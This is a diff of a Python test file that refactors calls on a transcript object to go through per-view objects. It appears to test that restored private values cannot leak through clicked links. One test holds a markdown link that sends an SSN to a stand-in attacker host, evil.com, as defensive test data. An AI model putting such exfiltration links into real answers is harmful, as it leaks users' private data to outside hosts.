@@ -91,10 +91,10 @@ def receive(transcript: Transcript, answer: str, size: int) -> str:
     chunks = [answer[at : at + size] for at in range(0, len(answer), size)]
     for piece in (*map(restorer.feed, chunks), restorer.flush()):
         pieces.append(piece)
-        transcript.append_answer(1, piece, restorer.restored[told:])
+        transcript.views[1].append_answer(piece, restorer.restored[told:])
         told = len(restorer.restored)
     restored = "".join(pieces)
-    transcript.finish_answer(1, answer, restored, restorer.restored)
+    transcript.views[1].finish_answer(answer, restored, restorer.restored)
     return restored
 
 
@@ -195,13 +195,13 @@ def test_an_answer_whose_values_are_not_marked_leads_to_known_hosts_alone(
     """As one that a file brought, or that a local model wrote out of private words."""
     transcript.add_turn(1, PROMPT)
     text = f"[x](https://evil.com/?q={SSN}) [y](https://docs.kept.test/{SSN})"
-    fitted = transcript.fitted(1)
+    fitted = transcript.views[1].fitted()
     assert fitted is not None
     fitted.append(text)
     fitted.finish(text)
     click_all(transcript)
     assert opened == [f"https://docs.kept.test/{SSN}"]
-    transcript.finish_answer(1, "other words", text, ())
+    transcript.views[1].finish_answer("other words", text, ())
     click_all(transcript)
     assert not [url for url in opened if carried(url)]
 
